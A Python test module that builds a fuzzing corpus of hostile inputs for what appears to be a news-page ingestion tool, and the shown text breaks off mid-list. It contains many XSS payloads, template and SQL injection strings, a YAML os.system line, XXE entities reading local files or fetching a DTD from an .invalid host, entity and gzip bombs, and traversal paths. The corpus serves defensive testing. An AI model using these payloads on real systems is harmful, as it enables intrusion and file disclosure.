"""Hostile seeds of our own: what a stranger may write into a page, a text or a sidecar, by kind, and what grows until something breaks.

`seeds()` are files by their path below content/seeds; `GROWING` are recipes for one as long as one likes; `on_disk` makes what is no file.
`python -m tests.attacks` counts them, and says what got through.
Nothing here leads anywhere: the hosts end in .invalid, and a script that ran would only say CANARY.
"""

# An attack stands in one piece, however long.
# ruff: noqa: E501

from __future__ import annotations

import gzip
import html
import json
import os
import socket
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

CANARY = "canary4711"  # what a script that ran would say, and what stands in files that nobody may read
RUN = f"console.log('{CANARY}')"
ELSEWHERE = "https://elsewhere.invalid"

# Markup and addresses, written into every field that reaches a page.
MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script\x0c/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></style></noscript></template><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><?php {RUN} ?><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror=\"{RUN}\">",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    f"' onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x='",
    f"x onload={RUN} y",
    f"` onfocus={RUN} autofocus `",
    f"<img src=`x`onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>tide</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>tide</math>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"/>'>",
    f"<a href='javascript:{RUN}'>tide</a>",
    f"<a href=' &#1; java\tscript:{RUN}'>tide</a>",
    f"<form action='javascript:{RUN}'><button autofocus>tide</button></form>",
    f"<details open ontoggle={RUN}>tide</details>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>tide</marquee>",
    f"<body onload={RUN}>",
    f"<base href='{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<meta http-equiv='Content-Security-Policy' content='script-src *'><script src={ELSEWHERE}/a.js></script>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/a.css'; body {{ background: url({ELSEWHERE}/b.png) }}</style>",
    f"<p style='background: url({ELSEWHERE}/c.png)'>tide</p>",
    f"<img srcset='{ELSEWHERE}/d.png 1x' src='{ELSEWHERE}/d.png'>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<table><td><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#x3c;/script&#x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"<\x00script>{RUN}</\x00script>",
    f"<a id=x name=body><form name=body><input name=attributes onfocus={RUN} autofocus>",
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}//",
    f"java\nscript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygnY2FuYXJ5NDcxMScpPC9zY3JpcHQ+",
    f"vbscript:msgbox({CANARY})",
    f"//elsewhere.invalid/{CANARY}",
    f"https://tide.invalid/\"onmouseover=\"{RUN}",
    f"https://tide.invalid/'-{RUN}-'",
    f"https://user:secret@elsewhere.invalid\\@tide.invalid/<script>{RUN}</script>",
    "{{ 7 * 7 }}{{ config }}{% include '/etc/passwd' %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %> {{=7*7}} *{7*7}",
    "{attach}../../canary.txt {static}/../canary.txt {filename}canary.txt |attach|/canary.txt",
    f"[tide](javascript:{RUN}) ![tide]({ELSEWHERE}/e.png) <{ELSEWHERE}/f>",
    "save_as: ../../canary.html\nslug: ../../canary\nstatus: hidden\ntemplate: ../../canary",
    '"""\n[[merge]]\nseeds = ["a", "b"]\nreason = "ours"\n"""',
    "!!python/object/apply:os.system ['true']\n---\n- &a [*a]",
    "../../../canary.txt",
    "..\\..\\canary.txt%00.html",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE reports; --",
    "%s%n%x{0.__class__}%(name)s",
    "‮cod.evitcerid a‬ ⁦tide⁩ \u202dtide",
    "\ufeffti\u200bde\u2060 \u00adand\u180e tide",
    "\x07\x1b[31mtide\x1b[0m\x08\x08\x9b31m",
    "\x85tide\u2028and\u2029tide\x0b\x0ctide",
    "Тһe Ηаrbоur Ϲоurіеr",
    "Z" + "\u0335\u0321\u0322" * 60 + "algo",
    "\U000e0041\U000e0042\U000e0043 tide \ufe0f\ufe0e",
    "tide \ufffe\uffff\ufdd0 \U0001ffff",
    "𝕿𝖍𝖊 ﷽ ﷺ ㌖ \u0149 ẞ İ ı",
    "con",
    "index",
    "<" * 300,
    "&" * 300,
    '"' * 300,
    "'" * 300,
)  # fmt: skip

SYLLABLES = ("bar", "den", "fol", "gat", "hum", "kel", "lor", "mir", "nan", "pos")


def town(number: int) -> str:
    """A town that no two numbers share, so that only the reports of one vector are of one event.

    >>> town(12)
    'Bardenfolholm'
    """
    return "".join(SYLLABLES[int(digit)] for digit in f"{number:03}").capitalize() + "holm"


def told(number: int, said: str) -> list[str]:
    """A report of one event with someone's words in it: what every attack stands among, so that it is kept."""
    place = town(number)
    return [
        f"The lock gates at {place} jammed on Tuesday and {number + 20} barges had to wait, the canal office of {place} said.",
        f"Nobody was hurt. “{said} is what the sign said,” Runa {place} told reporters at the lock.",
        f"The gates of {place} will be opened again on Friday, after {said} was taken out of the lock chamber by divers.",
    ]


def retold(number: int, said: str) -> list[str]:
    """The same event in other words."""
    place = town(number)
    return [
        f"Divers are working on the jammed lock gates at {place}, where {number + 21} barges have been waiting since Tuesday.",
        f"The canal office of {place} expects the gates to be open on Friday. Nobody was hurt.",
        f"“{said} is what the sign said,” Runa {place}, who was at the lock, said.",
    ]


def page(
    said: str, paragraphs: list[str], *, name: str = "", address: str = "https://tide.invalid/a", written: Callable[[str], str] = str
) -> str:
    """A saved page with the same words in every place that a fact is read from; `written` is how they are put into markup."""
    as_markup = written(said)
    facts = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"{name} {said}",
        "url": address,
        "datePublished": "2026-03-12T08:30:00+01:00",
        "dateModified": said,
        "articleSection": said[:58],
        "inLanguage": "en",
        "author": [{"@type": "Person", "name": said, "url": said}],
        "publisher": {"@type": "Organization", "name": said, "url": said, "logo": {"url": said}},
    }
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>{name} {as_markup}</title>
<meta property="og:title" content="{name} {as_markup}">
<meta property="og:site_name" content="{as_markup}">
<meta property="og:url" content="{as_markup}">
<meta name="author" content="{as_markup}">
<meta property="article:section" content="{as_markup}">
<meta name="save_as" content="../../canary.html"><meta name="url" content="{as_markup}"><meta name="template" content="{as_markup}">
<link rel="canonical" href="{html.escape(address)}">
<script type="application/ld+json">{json.dumps(facts)}</script>
</head><body><nav><a href="/">Home</a></nav>
<article><h1>{name} {as_markup}</h1>
<p class="byline">By {as_markup}</p><time datetime="2026-03-12" class="{as_markup}">{as_markup}</time>
{"".join(f"<p>{written(paragraph)}</p>" for paragraph in paragraphs)}
<blockquote>{as_markup}</blockquote><ul><li>{as_markup}</li></ul>
<p>© 2026 {as_markup}. All rights reserved.</p></article></body></html>
"""


def text(said: str, paragraphs: list[str]) -> str:
    """The same as people paste it."""
    return "\n\n".join([said, f"By {said}", f"Published by {said}", *paragraphs, f"(c) {said}", f"Source: {said}"])


def sidecar(said: str, **more: str) -> str:
    """A sidecar that says it of every fact that takes words."""
    facts = dict.fromkeys(("publisher", "carrier", "wire", "byline", "headline", "section", "basis"), said) | more
    # JSON's strings are TOML's, but for one character.
    return "".join(f"{key} = {json.dumps(value).replace(chr(127), '')}\n" for key, value in facts.items())


def of_markup() -> Iterator[tuple[str, str]]:
    """Four seeds a vector: in a page as it stands, in a page as text, in a text, in a sidecar."""
    for number, said in enumerate(MARKUP):
        named = f"Lock gates jam at {town(number)}"
        address = said if said.startswith("https:") else f"https://tide.invalid/{number}"
        yield f"markup-as-it-stands/{number:03}.html", page(said, told(number, said), name=named, address=address)
        yield f"markup-as-text/{number:03}.html", page(said, retold(number, said), name=named, written=html.escape)
        yield f"markup-in-text/{number:03}.txt", text(f"{named} {said}", told(number, said)[::-1])
        yield f"markup-in-sidecar/{number:03}.txt", text(named, [*retold(number, said)[::-1], f"The toll of {town(number)} is 12 crowns."])
        yield f"markup-in-sidecar/{number:03}.toml", sidecar(said)


# What nobody sees, or what covers what others say, in every field that reaches a page.
INVISIBLE = (
    "\u3164", "\u2800\u2800", "\u200f\u200f", "\u200d\u200c", "\u115f\u1160", "\ufe0f", "\u034f", "\u061c", "\u17b4\u17b5", "\uffa0", "\U0001d173\U0001bca0",
    "\u0301\u0301", "\u20dd", "\ufdd0\U0001fffe\U0010ffff", "\U000f0000\U00100000", "\u206a\u206f\u2065\ufff0", "\u0085", "\u00ad", "\u2003\u00a0",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all that stands here"),
    "tide" + "".join(chr(0xE0100 + number) for number in b"a message that nobody sees"),
    "tide" + "\u200c\u200d" * 60,
    "🏴" + "".join(chr(0xE0000 + ord(letter)) for letter in "gbeng and much more of it") + "\U000e007f",
    "ti" + "\u0489\u0334\u20dd" * 40 + "de",
    "שלום" + "\u05b0\u05b1" * 40,
    "ماء" + "\u064b\u0651" * 40,
    "ที่" + "\u0e47\u0e4d" * 40,
)  # fmt: skip


def of_invisible() -> Iterator[tuple[str, str]]:
    """Two seeds each: in every field of a page, and in a text with its sidecar."""
    for number, said in enumerate(INVISIBLE):
        yield f"invisible/{number:02}.html", page(said, told(number + 500, f"Lock {said} gate"))
        yield f"invisible/{number:02}-text.txt", text(said, retold(number + 500, f"Lock {said} gate"))
        yield f"invisible/{number:02}-text.toml", sidecar(said)


FILLER = "\n\n".join(["Barges wait at the lock", *told(900, "No entry")])
BODY = "".join(f"<p>{paragraph}</p>" for paragraph in told(901, "No entry"))


def nested(opening: str, closing: str, times: int, inside: str = BODY) -> str:
    return f"<html><body><h1>Barges wait</h1>{opening * times}{inside}{closing * times}</body></html>"


def of_shape() -> Iterator[tuple[str, str | bytes]]:
    """What is wrong with a seed as a whole: its nesting, sizes, bytes, declarations."""
    for name, opening, closing in (
        ("div", "<div>", "</div>"),
        ("b", "<b>", "</b>"),
        ("unclosed", "<div><p><b>", ""),
        ("closings", "", "</div></p></b>"),
        ("table", "<table><tr><td>", "</td></tr></table>"),
        ("list", "<ul><li>", "</li></ul>"),
        ("svg", "<svg>", "</svg>"),
        ("link", "<a href='/x'>", "</a>"),
        ("form", "<form>", "</form>"),
        ("quotation", "<blockquote>", "</blockquote>"),
        ("q", "<q>", "</q>"),
        ("template", "<template>", "</template>"),
        ("made-up", "<x-y>", "</x-y>"),
        ("button", "<button>", "</button>"),
        ("itemprop", "<p itemprop=x>", ""),
    ):
        yield f"nesting/{name}-100.html", nested(opening, closing, 100)
        yield f"nesting/{name}-1900.html", nested(opening, closing, 1_900 // max(1, opening.count("<")))
        yield f"nesting/{name}-30000.html", nested(opening, closing, 30_000)
    for name, markup in {
        "attributes": f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>One.</p>",
        "attribute": f"<p class='{'tide ' * 100_000}' id='{'x' * 200_000}'>One.</p>",
        "tag": f"<{'x' * 200_000}>One.</{'x' * 200_000}>",
        "bad-names": "<p:q:r @=1 =2 $x='3'><1a><ä:ö x:y:z=1>One.</p>" * 50,
        "comments": "<!-- - -- --!> <!--->" * 2_000,
        "unclosed-comment": "<!-- " + "tide " * 2_000,
        "unclosed-attribute": '<p title="' + "tide <p> " * 2_000,
        "entities": "&notit; &amp &#0; &#xd800; &#x110000; &#99999999999; &lt &quot; &bogus; &#x80; &#13;" * 200,
        "doctype": '<!DOCTYPE x [<!ENTITY a "tide"><!ENTITY b "&a;&a;"><!ENTITY c SYSTEM "file:///canary.txt">]><p>&b;&c;</p>',
        "frameset": "<frameset><frame src='x'></frameset><noframes>One.</noframes>",
        "plaintext": "<plaintext>" + BODY,
        "two-bodies": f"<body>{BODY}</body></html><html><head><title>Two</title></head><body>{BODY}</body>",
        "rows": "<table>" + "<tr><td>One</td><td>Two</td></tr>" * 20_000 + "</table>",
        "cells": "<table><tr>" + "<td>One</td>" * 20_000 + "</tr></table>",
        "empty-claims": "<p itemprop=x></p>" * 20_000,
        "times": "<time></time>" * 20_000,
        "metas": "<meta name=a content=b>" * 20_000,
        "links": "<a href='/a'>One</a> " * 20_000,
        "breaks": "One<br>" * 20_000,
        "ruby": "<ruby>One<rt>Two</rt></ruby>" * 5_000,
        "ld-blocks": '<script type=\'application/ld+json\'>{"@type":"NewsArticle"}</script>' * 20_000,
        "ld-never-closed": "<script type='application/ld+json'>" + '{"headline":"' * 20_000,
        "data-address": "<img src='data:image/png;base64," + "A" * 2_000_000 + "'>",
        "noscript": "<noscript><p>One.</noscript>" * 10_000,
        "base": f"<base href='{ELSEWHERE}/'><a href='a'>One.</a>" * 500,
        "shadow": "<x-y><template shadowrootmode=open><p>One.</p><slot></slot></template>Two.</x-y>" * 2_000,
        "srcdoc": f"<iframe srcdoc='{html.escape(BODY, quote=True)}'></iframe>" * 300,
        "select": "<select>" + "<option>One" * 20_000,
        "formatting": "<b><i><u><s><em>" * 380 + "</b><p>One.",
        "adoption": "<a><b><p></a></b>One." * 3_000,
        "foster": "<table><b>One<tr><i>Two<td></b>Three" * 3_000,
        "marquee": "<marquee><center><font color=red>One." * 600,
        "names": "<p " + " ".join(f"{chr(0x4E00 + n)}=1" for n in range(1_500)) + ">One.",
        "xlink": "<svg><use href='#a'/><symbol id=a><use href='#a'/></symbol></svg>" * 2_000,
        "laughs": "<!DOCTYPE lolz [<!ENTITY lol 'lol'>"
        + "".join(f"<!ENTITY lol{n} '{'&lol' + str(n - 1) + ';'}" * 10 + "'>" for n in range(1, 10))
        + "]><p>&lol9;</p>",
        "outside": "<!DOCTYPE x SYSTEM 'file:///canary.txt' [<!ENTITY % p SYSTEM 'https://elsewhere.invalid/x.dtd'>%p;]><p>&x;</p>",
        "xinclude": "<x:include xmlns:x='http://www.w3.org/2001/XInclude' href='file:///canary.txt' parse='text'/><?xml-stylesheet href='https://elsewhere.invalid/a.xsl'?>",
        "word": "<p>" + "x" * 99_000 + "</p>",
        "joiners": "<p>" + "a\u200d" * 40_000 + "</p>",
        "accents": "<p>" + "e" + "\u0301" * 90_000 + "</p>",
        "accents-apart": "<p>" + "e\u0315\u0300\u05ae" * 20_000 + "</p>",
        "endless": "<p>" + "and the tide rose and " * 4_000 + "</p>",
        "quotations": "<p>" + "“No,” said Runa Lock. " * 4_000 + "</p>",
        "direction": "<p>" + "\u202e\u2067tide\u2069" * 9_000 + "</p>",
        "halfwidth": "<p>" + "ﾞ" * 60_000 + "㌖" * 20_000 + "</p>",
        "ligatures": "<p>" + "ﷺ" * 40_000 + "</p>",
        "ids": "".join(f"<p id=s{n}>One {n}.</p>" for n in range(300)),
    }.items():
        yield f"markup-at-large/{name}.html", f"<html><body><h1>Barges wait at the lock</h1>{BODY}{markup}</body></html>"
    for name, script in {
        "deep": "[" * 100_000,
        "deep-closed": "[" * 900 + "]" * 900,
        "deep-objects": '{"a":' * 5_000 + "1" + "}" * 5_000,
        "number": '{"@type":"NewsArticle","headline":' + "9" * 10_000 + "}",
        "infinite": '{"@type":"NewsArticle","headline":1e999,"name":NaN}',
        "surrogate": '{"@type":"NewsArticle","headline":"Barges \\ud800 wait","author":{"name":"Runa \\udfff Lock"},"publisher":{"name":"\\udc80 Tide"},"articleSection":"Tide \\ud800"}',
        "zeros": '{"@type":"NewsArticle","headline":"Barges \\u0000 wait","author":{"name":"Runa \\u0007 Lock"},"publisher":{"name":"Ti\\u202ede"},"articleSection":"Ti\\u0001de"}',
        "types": '{"@type":{"a":1},"headline":["a",{"b":[]},null,true],"author":true,"publisher":7,"datePublished":{"x":[]}}',
        "lists": '{"@type":["NewsArticle",[],{},null],"author":[[["Runa"]]],"@graph":[[{"@graph":{}}]]}',
        "keys": '{"@type":"NewsArticle","__proto__":{"x":1},"' + "k" * 100_000 + '":"v","":"empty"}',
        "body": '{"@type":"NewsArticle","articleBody":"' + "One. " * 40_000 + '"}',
        "quotes": '{"@type":"NewsArticle","headline":' + '"\\"' * 20_000,
        "wide": "[" + '{"@type":"NewsArticle","headline":""},' * 20_000 + "{}]",
        "date": '{"@type":"NewsArticle","datePublished":"0000-00-00T99:99:99+99:99","dateModified":"9999-12-31T23:59:59-23:59"}',
        "old": '{"@type":"NewsArticle","datePublished":"0001-01-01T00:00:00+14:00","dateModified":"99999-01-01"}',
        "address": '{"@type":"NewsArticle","url":"https://[::1/","publisher":{"name":"Tide","url":"https://tide.invalid:99999/"}}',
        "arrays": '{"@type":"NewsArticle","headline":' + "[" * 100_000 + "]" * 100_000 + "}",
        "authors": '{"@type":"NewsArticle","headline":"Barges wait","author":['
        + ",".join(f'{{"name":"Runa {n}"}}' for n in range(50_000))
        + "]}",
        "author": '{"@type":"NewsArticle","headline":"Barges wait","author":"' + "Runa Lock, " * 20_000 + '"}',
        "leap": '{"@type":"NewsArticle","datePublished":"9999-12-31T23:59:60+99:99","dateModified":"2026-02-29T24:00:00-24:00"}',
        "zones": '{"@type":"NewsArticle","datePublished":"2026-03-12T23:59:60+99:99","dateModified":"2026-03-12T24:00:00+24:00"}',
        "huge-day": '{"@type":"NewsArticle","datePublished":' + "9" * 4_000 + ',"dateModified":"' + "9" * 10_000 + '-01-01"}',
        "far-off": '{"@type":"NewsArticle","datePublished":"9999999999999","dateModified":"-99999999999","url":1e999}',
        "digits": '{"@type":"NewsArticle","datePublished":"٢٠٢٦-٠٣-١٢","dateModified":"２０２６－０３－１３T٠٨:٣٠"}',
        "superscripts": '{"@type":"NewsArticle","datePublished":"²⁰²⁶-⁰³-¹²","dateModified":"20②6-0③-12"}',
        "halves": '{"@type":"NewsArticle","headline":"Barges \\ud83d","author":"\\ude80 Runa","url":"https://tide.invalid/\\ud800"}',
        "not-strings": '{"@type":"NewsArticle","headline":{"@value":"Barges","@language":"en"},"url":[1,{"@id":2}],"inLanguage":[],"publisher":[[{"name":[1]}]]}',
        "proto": '{"@type":"NewsArticle","constructor":{"prototype":{"headline":"x"}},"__class__":"os","headline":{"__proto__":"y"}}',
        "nothing-said": '{"@type":"NewsArticle","headline":true,"author":[true,7,1e5,null],"publisher":{"name":false},"articleSection":7,"url":true,"inLanguage":7}',
        "nothing-written": '{"@type":"NewsArticle","headline":"null","author":"undefined","publisher":{"name":"[object Object]"},"articleSection":"NaN"}',
        "same-keys": '{"@type":"NewsArticle",' + ",".join(['"headline":"Barges wait"'] * 20_000) + "}",
        "closed-early": '{"@type":"NewsArticle","headline":"</script><script>' + RUN + '</script><!--<script>"}',
        "host": '{"@type":"NewsArticle","url":"https://xn--\\u0001.' + "a." * 2_000 + 'invalid/"}',
    }.items():
        yield (
            f"json-ld/{name}.html",
            f'<html><head><script type="application/ld+json">{script}</script></head><body><h1>Barges</h1>{BODY}</body></html>',
        )
    for name, data in {
        "nothing": b"",
        "zeros": b"\0" * 10_000,
        "spaces": b" \n\t" * 10_000,
        "every-byte": bytes(range(256)) * 40,
        "bom": b"\xef\xbb\xbf",
        "two-boms": b"\xef\xbb\xbf\xef\xbb\xbf" + FILLER.encode(),
        "zeros-between": FILLER.encode().replace(b" ", b"\0 \0"),
        "utf-16": FILLER.encode("utf-16"),
        "utf-16-no-bom": FILLER.encode("utf-16-be"),
        "utf-16-cut": FILLER.encode("utf-16")[:-1],
        "utf-16-halves": b"\xff\xfe" + b"\x00\xd8" * 500 + FILLER.encode("utf-16-le"),
        "utf-32": FILLER.encode("utf-32"),
        "utf-32-cut": FILLER.encode("utf-32")[:-2],
        "utf-8-halves": FILLER.encode() + b"\xed\xa0\x80\xed\xbf\xbf",
        "utf-8-long": FILLER.encode() + b"\xc0\xbcscript\xc0\xbe",
        "utf-8-cut": FILLER.encode() + "ü".encode()[:1],
        "mixed": FILLER.encode() + "größer ".encode("cp1252") * 30 + "größer".encode() + "крупнее".encode("cp1251"),
        "ebcdic": FILLER.replace("“", '"').replace("”", '"').encode("cp037"),
        "gzip": gzip.compress(b"0" * 5_000_000, mtime=0),
        "zip": b"PK\x03\x04" + b"\0" * 200,
        "pdf": b"%PDF-1.7\n" + b"\xff" * 200,
        "escapes": b"\x1b$B" + b"\xff" * 100 + FILLER.encode(),
        "terminal": b"\x1b]0;tide\x07\x1b[2J" + FILLER.encode(),
        "carriage": FILLER.encode().replace(b"\n", b"\r"),
        "json": b'[{"' + b"a" * 100,
        "json-deep": b'{"a":' * 50_000,
        "feed": b"<?xml version='1.0'?><rss><channel/></rss>",
        "warc": b"WARC/1.0\r\n\r\n",
        "bom-inside": FILLER.replace("lock", "lo\ufeffck").encode() + b"\xff\xfe" + FILLER.encode("utf-16-le") + b"\xef\xbb\xbf",
        "utf-7": b"<meta charset=utf-7>+ADw-script+AD4-" + FILLER.encode("utf-7"),
        "utf-7-mark": b"+/v8-+ADw-script+AD4-" + FILLER.encode("utf-7") + b"+//////////8-+2AA-",
        "utf-8-longest": FILLER.encode() + b"\xf8\x88\x80\x80\xbc\xfc\x84\x80\x80\x80\xbc\xf4\x90\x80\x80" * 50,
        "shifts": b"\x0e\x0f\x1b$)C\x1b(J\x1b.A\x1b%G" * 200 + FILLER.encode(),
        "hz": b"~{" * 5_000 + FILLER.encode() + b"~}",
        "gb18030": FILLER.encode() + b"\x81\x30\x81\x30\xfe\x39\xfe\x39" * 500,
        "gzip-cut": gzip.compress(FILLER.encode(), mtime=0)[:-9],
        "gzip-twice": gzip.compress(gzip.compress(b"0" * 5_000_000, mtime=0), mtime=0),
        "bzip": b"BZh91AY&SY" + b"\x80" * 300,
        "zstd": b"\x28\xb5\x2f\xfd" + b"\xff" * 300,
        "xz": b"\xfd7zXZ\x00" + b"\xff" * 300,
        "tar": b"a".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 300,
        "sqlite": b"SQLite format 3\0" + b"\x10" * 300,
        "mail": b"From: a\nTo: b\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-9\n\n" + FILLER.encode(),
        "svg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'><text>" + FILLER.encode() + b"</text></svg>",
        "xhtml": b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY a SYSTEM 'file:///canary.txt'>]><html xmlns='http://www.w3.org/1999/xhtml'><p>&a;</p>"
        + BODY.encode()
        + b"</html>",
        "plist": b"bplist00" + b"\xff" * 300,
        "webarchive-of-lies": b"WARC/1.0\r\nContent-Length: 99999999999\r\n\r\n",
        "feed-of-laughs": b"<?xml version='1.0'?><!DOCTYPE r ["
        + b"".join(b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 9))
        + b"]><rss>&l8;</rss>",
        "bomb": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a '" + b"b" * 1000 + b"'>]><rss>&a;</rss>",
    }.items():
        yield f"bytes/{name}.txt", data
        yield f"bytes/{name}.html", data
    related = "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: "
    whole = f"text/html; charset=utf-8\nContent-Location: https://tide.invalid/lock\n\n<h1>Barges wait at the lock</h1>{BODY}\n"
    for name, mail in {
        "in-mhtml": related + "message/rfc822\n\n" + related.replace("=x", "=y").replace("--x", "--y") + whole + "--y--\n--x--",
        "deep": "".join(f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b{n}\n\n--b{n}\n" for n in range(300)) + whole,
        "related-of-related": related + "".join(f"multipart/related; boundary=b{n}\n\n--b{n}\nContent-Type: " for n in range(12)) + whole,
        "mails-in-mails": related + "message/rfc822\n\n" + "Content-Type: message/rfc822\n\n" * 5_000 + whole,
        "boundary-in-parts": related.replace("boundary=x", "boundary*0=x; boundary*=y") + whole + "--x--",
        "boundary-without-end": related.replace("boundary=x", f"boundary*{'9' * 5_000}=x; boundary*0=y") + whole + "--x--",
        "type-of-nothing": related.replace("multipart/related", 'multipart/related; type="*=;;;=*0*=') + whole + "--x--",
        "many": related + whole + "--x\nContent-Type: text/css\n\np {}\n" * 20_000,
        "base64": related + whole + "--x\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n" + "QUJD\n" * 400_000 + "--x--",
        "base64-of-nothing": related + "text/html\nContent-Transfer-Encoding: base64\n\n====\n--x--",
        "base64-page": related + "text/html\nContent-Transfer-Encoding: base64\n\n" + "PHA+" * 200_000 + "\n--x--",
        "printable": related + "text/html\nContent-Transfer-Encoding: quoted-printable\n\n" + "=" * 300_000 + "\n--x--",
        "uuencoded": related + "text/html\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 ../../canary.txt\n#0V%T\n`\nend\n--x--",
        "charsets": related + whole.replace("utf-8", "unicode_escape") + "--x--",
        "charset-of-nothing": related + whole.replace("charset=utf-8", "charset*0=ut; charset*1=f-8; charset*=%00'%00'%ff") + "--x--",
        "location": related + whole.replace("https://tide.invalid/lock", f"javascript:{RUN}") + "--x--",
        "location-of-a-file": related.replace("\n\n", "\nSnapshot-Content-Location: file:///canary.txt\n\n", 1) + whole + "--x--",
        "headers": "MIME-Version: 1.0\n" + "X-A: b\n" * 400 + related.partition("\n")[2] + whole + "--x--",
        "header": related.replace("boundary=x", "boundary=x; a=" + "b" * 3_000) + whole + "--x--",
        "folded": related.replace("boundary=x", "boundary=x;" + "\n a=b;" * 400) + whole + "--x--",
        "words": related.replace(
            "\n\n", "\nSubject: =?utf-7?Q?+ADw-script?= =?x?B?!?= =?utf-8?B?//8=?=\nDate: Fri, 99 Zzz 99999 99:99:99 +9999\n\n", 1
        )
        + whole
        + "--x--",
        "no-boundary": related.replace("; boundary=x", "") + whole,
        "boundary-of-nothing": related.replace("boundary=x", 'boundary=""') + whole,
    }.items():
        yield f"mhtml/{name}.mhtml", mail
    for number, address in enumerate(
        (
            "javascript:alert(1)//https://tide.invalid/a", "file:///etc/passwd", "data:text/html,<p>a", "//tide.invalid/a", "https:///a",
            "https://user:pass@tide.invalid/a", "https://tide.invalid:99999/a", "https://tide.invalid:0x50/a", "https://tide.invalid\\@b.invalid/a",
            "https://127.0.0.1/a", "https://localhost/a", "https://[::1]/a", "https://0x7f.1/a", "https://2130706433/a", "https://tide.invalid./a",
            "https://tide.invalid/a\tb", "https://tide.invalid/a\r\nLocation: https://b.invalid", "https://tide.invalid/%00%0a%0d", "https://tide.invalid/‮a",
            "https://tide。invalid/a", "https://ⓣide.invalid/a", "https://xn--0000000.invalid/a", "https://тide.invalid/a", "https://-.invalid/a",
            "https://" + "a" * 300 + ".invalid/a", "https://tide.invalid/" + "a" * 20_000, "https://tide.invalid/" + "../" * 3_000 + "etc/passwd",
            "https://tide.invalid/?" + "a=b&" * 4_000, "https://tide.invalid/a#" + "b" * 4_000, "HTTPS://TIDE.INVALID/A", "https:tide.invalid/a",
            "https://tide.invalid/a b", "https://tide.invalid/a\"b", "https://tide.invalid/a'b", "https://tide.invalid/a&amp;b", "https://tide.invalid/{{7*7}}",
            "https://tide.invalid/%E0%A4%A", "https://tide.invalid/%2e%2e/%2e%2e/a", "view-source:https://tide.invalid/a", "blob:https://tide.invalid/a",
            "intent://tide.invalid/a#Intent;scheme=https;end", "https://tide.invalid/;a=b?c=d#e:f@g", "https://[fe80::1%25eth0]/a", "https://tide.invalid:/a", "https://:80/a", "https://apn\u0435ws.com/a", "https://ａｐｎｅｗｓ.com/a", "https://аррӏе.com/a",
            "https://apnews.com\u2044a.tide.invalid/a", "https://apnews.com\\.tide.invalid/a", "https://apnews.com#@tide.invalid/a", "https://tide.invalid／apnews.com/a",
        )
    ):  # fmt: skip
        said = html.escape(address, quote=True)
        yield (
            f"addresses/{number:02}.html",
            f'<link rel="canonical" href="{said}"><meta property="og:url" content="{said}"><script type="application/ld+json">'
            f"{json.dumps({'@type': 'NewsArticle', 'url': address, 'mainEntityOfPage': address, 'author': {'name': 'Runa Lock', 'url': address}})}</script>"
            f"<h1>Barges wait at address {number}</h1>{BODY}",
        )
    for number, headline in enumerate(
        (
            "con", "CON.txt", "nul", "aux", "prn", "com1", "lpt9", "index", "index.html", "feed.xml", "story.json", ".", "..", "...", "-", "--", "-rf", "~", "/", "\\",
